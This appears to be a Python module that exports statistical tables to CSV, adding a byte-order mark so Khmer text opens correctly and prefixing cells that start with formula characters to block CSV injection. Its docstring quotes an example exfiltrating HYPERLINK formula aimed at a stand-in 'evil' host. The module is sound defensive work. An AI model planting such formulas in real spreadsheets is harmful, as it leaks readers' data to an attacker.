"""CSV: one block per sheet (its title, header, rows and notes), for spreadsheets.

Two things make a CSV file safe to hand to a ministry:

* **Khmer opens correctly.** Excel reads a CSV file without a byte-order mark in the
  computer's legacy code page and turns Khmer into mojibake; UTF-8 *with* a BOM is the
  signal it honours.
* **No cell runs as a formula.** A spreadsheet evaluates a cell that starts with ``=``,
  ``+``, ``-`` or ``@`` (and, in some, a tab or carriage return before them), so a case
  note such as ``=HYPERLINK("http://evil/?"&A1, "click")`` would run on the reader's
  machine (OWASP, "CSV Injection"). Such texts get a leading apostrophe, which makes
  them plain text; real numbers such as ``-54.6`` are left alone.
"""

from __future__ import annotations

import csv
import io

from counterflow.stats.export.base import Cell, Document, is_number_text

_DANGEROUS_START = ("=", "+", "-", "@", "\t", "\r")


def defuse(text: str) -> str:
    """``text`` made inert for a spreadsheet (module docstring)."""
    if text.startswith(_DANGEROUS_START) and not is_number_text(text):
        return "'" + text
    return text


def _field(cell: Cell) -> str:
    if cell is None:
        return ""
    if isinstance(cell, str):
        return defuse(cell)
    return str(cell)  # repr-exact: -54.6 stays -54.6, a count has no separators


def render_csv(document: Document) -> bytes:
    """The document as CSV (RFC 4180 line endings, UTF-8 with BOM)."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow([defuse(document.title)])
    if document.subtitle:
        writer.writerow([defuse(document.subtitle)])
    for sheet in document.sheets:
        writer.writerow([])
        writer.writerow([defuse(sheet.title)])
        writer.writerow([defuse(h) for h in sheet.header])
        writer.writerows([_field(c) for c in row] for row in sheet.rows)
        writer.writerows([defuse(note)] for note in sheet.notes)
    return out.getvalue().encode("utf-8-sig")
